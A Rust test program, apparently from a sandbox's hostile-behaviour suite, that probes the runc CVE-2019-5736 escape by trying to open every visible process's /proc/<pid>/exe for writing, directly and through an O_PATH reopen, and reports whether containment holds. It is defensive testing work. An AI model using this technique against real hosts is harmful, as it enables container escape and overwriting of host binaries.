//! Overwrite the runtime's binary on the host through /proc/<pid>/exe (the
//! runc CVE-2019-5736 pattern): for every visible process, open its exe
//! link for writing directly and by re-opening an O_PATH handle through
//! /proc/self/fd, and report where each exe link points. If brig (or any
//! host binary) runs as a process inside the sandbox's pid namespace, its
//! exe link leads to the host file even though the path is outside the
//! sandbox's root.
//!
//! Nothing is ever written. Contained: every open for writing fails
//! (EACCES for pid 1, brig's init, which belongs to the host's user
//! namespace; ETXTBSY for our own running binary; EROFS). Escaped: any
//! succeeded. Destructive if mis-run (it would target
//! host binaries): needs `--armed` and a user namespace.

use std::os::fd::AsRawFd;

use brig_hostile::{
    cmdline, guard_destructive, open, outcome, readlink, visible_pids, Args, Report,
};

fn main() {
    let args = Args::get();
    guard_destructive("proc_exe_overwrite", &args);
    let mut report = Report::new("proc_exe_overwrite");
    let mut pids: Vec<String> = visible_pids().iter().map(|p| p.to_string()).collect();
    pids.push("self".into());
    for pid in pids {
        let link = format!("/proc/{pid}/exe");
        // pid 1 (brig's init, whose exe is brig on the host) answers
        // EACCES here: it belongs to the host's user namespace. The opens
        // below are the attack and are tried all the same.
        let target = match readlink(&link) {
            Ok(t) => t,
            Err(libc::ENOENT) | Err(libc::ESRCH) => continue, // exited meanwhile
            Err(e) => format!("(unreadable: {})", brig_hostile::errno_name(e)),
        };
        let argv = if pid == "self" {
            String::new()
        } else {
            cmdline(pid.parse().unwrap_or(0))
        };
        let direct = open(&link, libc::O_WRONLY);
        let direct_s = outcome(&direct);
        let ok = direct.is_ok();
        drop(direct);
        let reopened = match open(&link, libc::O_PATH) {
            Ok(h) => {
                let r = open(&format!("/proc/self/fd/{}", h.as_raw_fd()), libc::O_WRONLY);
                let s = outcome(&r);
                (r.is_ok(), s)
            }
            Err(e) => (false, format!("O_PATH: {}", brig_hostile::errno_name(e))),
        };
        report.record(
            ok || reopened.0,
            format!(
                "{link} -> {target} ({argv}): open for writing {direct_s}, via O_PATH reopen {}",
                reopened.1
            ),
        );
    }
    report.finish()
}
